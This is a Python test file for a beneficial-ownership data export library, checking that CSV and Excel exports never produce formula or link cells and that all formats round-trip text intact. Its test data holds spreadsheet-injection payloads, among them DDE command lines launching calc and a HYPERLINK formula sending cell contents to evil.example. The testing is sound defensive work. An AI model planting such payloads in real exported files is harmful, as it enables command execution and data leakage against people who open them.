"""bar-I7: no cell of a table that is published is a formula or a link, and every text can be had again as it was."""

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace

import openpyxl
import orjson
import pytest
from hypothesis import example, given
from hypothesis import strategies as any_

from bods.exports import csv_pointers, csv_tables, json_array, json_lines, parquet, sqlite, xlsx
from bods.exports.format import Format
from bods.reading import statement_from
from bods.records import Name
from bods.writing import as_bytes
from tests.bods.often import tried
from tests.bods.stories import ALFA, ANA, owns, shares, statement

#: What makes a spreadsheet run a cell, by the application security standard (ASVS 1.2.10), and in full width.
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
RUN = (
    *(f"{sign}1+1" for sign in SIGNS),
    "=HYPERLINK(\"https://evil.example?\"&A1,\"Ana\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+254 712 000 000",
    "-2+3+cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''",
    "'",
    "https://evil.example",
    "javascript:alert(1)",
    "=",
    "Ana",
)  # fmt: skip
texts = any_.sampled_from(RUN) | any_.builds(
    str.__add__, any_.sampled_from(("", "'", " ", *SIGNS)), any_.text(max_size=12)
)
#: How many risky signs a cell may begin with: none, whatever blanks a spreadsheet skips before it.
FORBIDDEN = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def published(*names: str) -> list[bytes]:
    """Alfa and Ana, each called all of this, and that Ana owns it."""
    first, *others = names
    told = (
        statement("alfa", replace(ALFA, name=first, alternate_names=tuple(others))),
        statement("ana", replace(ANA, names=tuple(Name(each) for each in names))),
        statement("ana-alfa", owns("ana", "alfa", shares(60, details=first))),
    )
    return [as_bytes(each) for each in told]


def file_of(known: Format, texts: list[bytes]) -> bytes:
    out = io.BytesIO()
    known.write(texts, out)
    return out.getvalue()


def cells_of_csv(file: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")):
        yield from row


def cells_of_zip(file: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(file)) as zipped:
        for name in zipped.namelist():
            if name.endswith(".csv"):
                yield from cells_of_csv(zipped.read(name))


@example(["=1+1"])
@tried(60)
@given(any_.lists(texts, min_size=1, max_size=3))
def test_bar_i7_no_cell_of_a_csv_can_be_run_and_each_text_comes_back(names: list[str]) -> None:
    told = published(*names)
    kinds: tuple[tuple[Format, Callable[[bytes], Iterator[str]]], ...] = (
        (csv_pointers.FORMAT, cells_of_csv),
        (csv_tables.FORMAT, cells_of_zip),
    )

    for known, cells in kinds:
        file = file_of(known, told)
        risky = [cell for cell in cells(file) if cell[:1] in SIGNS or cell.lstrip().startswith(FORBIDDEN)]
        assert risky == []
        assert known.read is not None
        assert [as_bytes(each) for each in known.read(io.BytesIO(file))] == told


@example(list(RUN))
@tried(10)
@given(any_.lists(texts, min_size=1, max_size=3))
def test_bar_i7_no_cell_of_a_workbook_is_a_formula_or_a_link_and_each_text_comes_back(
    names: list[str],
) -> None:
    told = published(*names)

    file = file_of(xlsx.FORMAT, told)

    book = openpyxl.load_workbook(io.BytesIO(file))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "n", "b"}
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []
    assert list(book.defined_names) == []
    with zipfile.ZipFile(io.BytesIO(file)) as zipped:
        parts = zipped.namelist()
    assert not [name for name in parts if "externalLink" in name or name.endswith((".bin", ".vml"))]
    assert xlsx.FORMAT.read is not None
    assert [as_bytes(each) for each in xlsx.FORMAT.read(io.BytesIO(file))] == told


@pytest.mark.parametrize(
    "known",
    [each.FORMAT for each in (json_array, json_lines, parquet, sqlite)],
    ids=lambda known: known.code,
)
def test_bar_i7_forms_that_nothing_runs_hold_each_text_untouched(known: Format) -> None:
    told = published(*RUN)

    file = file_of(known, told)

    assert known.read is not None
    assert [as_bytes(each) for each in known.read(io.BytesIO(file))] == told
    if known.code.startswith("json"):
        assert b"'=1+1" in file
        assert b'"=1+1' in file
    assert statement_from(orjson.loads(told[0])).record == replace(ALFA, name=RUN[0], alternate_names=RUN[1:])
